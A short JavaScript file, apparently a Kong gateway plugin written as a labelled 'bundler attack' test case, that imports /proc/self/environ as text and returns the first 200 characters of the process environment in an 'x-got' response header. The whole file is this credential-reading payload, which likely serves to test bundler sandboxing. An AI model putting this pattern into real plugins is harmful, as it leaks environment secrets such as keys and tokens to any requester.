// Bundler attack: Kong's environment read as text through an import attribute.
import stolen from '/proc/self/environ' with { type: 'text' };
export class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
  }
}
export const Version = '1.0.0';
